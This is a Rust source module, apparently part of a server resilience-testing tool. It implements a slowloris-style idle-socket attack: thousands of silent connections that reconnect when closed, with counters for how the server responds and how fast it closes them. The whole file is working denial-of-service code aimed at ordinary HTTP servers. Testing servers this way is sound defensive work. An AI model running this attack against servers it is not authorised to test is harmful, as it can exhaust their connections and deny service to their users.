//! Idle sockets: thousands of connections that never say anything.
//!
//! Each connects and sends nothing — no request, not a byte. It costs the attacker one
//! file descriptor and almost no memory; it costs the server a descriptor, a task
//! waiting for a request head, and a slot under its open-files limit. Enough of them and
//! a server without a request-head timeout runs out of descriptors and refuses everyone
//! (the classic "slowloris", without even the slow headers).
//!
//! Each socket waits for the server to close it (a read returns end-of-file or an
//! error; any bytes the server sends first, such as a `408` or `503`, are read and their
//! status counted), then reconnects after a short pause, like a persistent attacker.

use std::net::SocketAddr;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;

use serde::{Deserialize, Serialize};
use tokio::io::AsyncReadExt;
use tokio::task::JoinSet;
use tokio::time::Instant;
use tokio_util::sync::CancellationToken;

use super::raw::{self, StatusCounts};
use super::Spread;

/// Pause before reconnecting a socket the server closed.
const RECONNECT_AFTER: Duration = Duration::from_millis(100);
/// Pause after a failed connect (server down, backlog full, out of descriptors).
const RETRY_AFTER: Duration = Duration::from_millis(500);

/// Counters the phase reads while the attack runs (to wait for the ramp).
#[derive(Debug, Default)]
pub struct IdleLive {
    /// Sockets open now.
    pub open: AtomicU64,
    /// Most open at once.
    pub max_open: AtomicU64,
}

/// What the idle sockets did.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct IdleSocketsOutcome {
    /// Sockets kept open (each reconnected when closed).
    pub sockets: usize,
    /// Successful connects, first ones and reconnects.
    pub connects: u64,
    /// Connects after the server had closed that socket.
    pub reconnects: u64,
    /// Connects that failed.
    pub connect_errors: u64,
    /// Sockets the server closed.
    pub closed_by_server: u64,
    /// Statuses of what the server sent before closing, if anything (e.g. 408, 503).
    pub answered: StatusCounts,
    /// Bytes the server sent them in all.
    pub bytes_received: u64,
    /// Seconds from connect to the server's close, over every close.
    pub closed_after_seconds: Option<Spread>,
    /// Open when the phase ended.
    pub open_at_end: u64,
    /// Most open at once.
    pub max_open: u64,
}

#[derive(Default)]
struct Counts {
    connects: u64,
    reconnects: u64,
    connect_errors: u64,
    closed: u64,
    answered: StatusCounts,
    bytes_received: u64,
    lifetimes: Vec<f64>,
}

/// Keeps `sockets` idle sockets open against `addr`, connected at `connect_rate` per
/// second, until `stop`; `live` shows how many are open meanwhile.
pub async fn run(
    addr: SocketAddr,
    sockets: usize,
    connect_rate: f64,
    live: Arc<IdleLive>,
    stop: CancellationToken,
) -> IdleSocketsOutcome {
    let start = Instant::now();
    let mut tasks = JoinSet::new();
    for i in 0..sockets {
        let first = start + Duration::from_secs_f64(i as f64 / connect_rate);
        tasks.spawn(idle(addr, first, live.clone(), stop.clone()));
    }
    let mut total = IdleSocketsOutcome { sockets, ..IdleSocketsOutcome::default() };
    let mut lifetimes = Vec::new();
    while let Some(counts) = tasks.join_next().await {
        let Ok(one) = counts else { continue };
        total.connects += one.connects;
        total.reconnects += one.reconnects;
        total.connect_errors += one.connect_errors;
        total.closed_by_server += one.closed;
        raw::add_statuses(&mut total.answered, &one.answered);
        total.bytes_received += one.bytes_received;
        lifetimes.extend(one.lifetimes);
    }
    total.closed_after_seconds = Spread::of(lifetimes);
    total.open_at_end = live.open.load(Ordering::Relaxed);
    total.max_open = live.max_open.load(Ordering::Relaxed);
    total
}

/// One socket: connect at `first`, wait for the server to close it, reconnect.
async fn idle(addr: SocketAddr, first: Instant, live: Arc<IdleLive>, stop: CancellationToken) -> Counts {
    let mut counts = Counts::default();
    tokio::select! {
        _ = stop.cancelled() => return counts,
        _ = tokio::time::sleep_until(first) => {}
    }
    let mut closed_before = false;
    loop {
        let connected = tokio::select! {
            _ = stop.cancelled() => return counts,
            connected = raw::connect(addr, None) => connected,
        };
        let mut stream = match connected {
            Ok(stream) => stream,
            Err(_) => {
                counts.connect_errors += 1;
                tokio::select! {
                    _ = stop.cancelled() => return counts,
                    _ = tokio::time::sleep(RETRY_AFTER) => continue,
                }
            }
        };
        counts.connects += 1;
        if closed_before {
            counts.reconnects += 1;
        }
        let open = live.open.fetch_add(1, Ordering::Relaxed) + 1;
        live.max_open.fetch_max(open, Ordering::Relaxed);
        let connected_at = Instant::now();
        // Read only to learn when the server closes (and what it said first); this
        // socket never writes.
        let mut received = Vec::new();
        let mut buf = [0u8; 1024];
        let closed = loop {
            let read = tokio::select! {
                _ = stop.cancelled() => break false,
                read = stream.read(&mut buf) => read,
            };
            match read {
                Ok(0) | Err(_) => break true,
                Ok(n) => {
                    counts.bytes_received += n as u64;
                    if received.len() < 4096 {
                        received.extend_from_slice(&buf[..n]);
                    }
                }
            }
        };
        if !closed {
            // Stopped with the socket open: it stays counted as open at the end.
            return counts;
        }
        live.open.fetch_sub(1, Ordering::Relaxed);
        counts.closed += 1;
        counts.lifetimes.push(connected_at.elapsed().as_secs_f64());
        if let Ok(Some(head)) = raw::parse_head(&received) {
            *counts.answered.entry(head.status).or_default() += 1;
        }
        closed_before = true;
        tokio::select! {
            _ = stop.cancelled() => return counts,
            _ = tokio::time::sleep(RECONNECT_AFTER) => {}
        }
    }
}
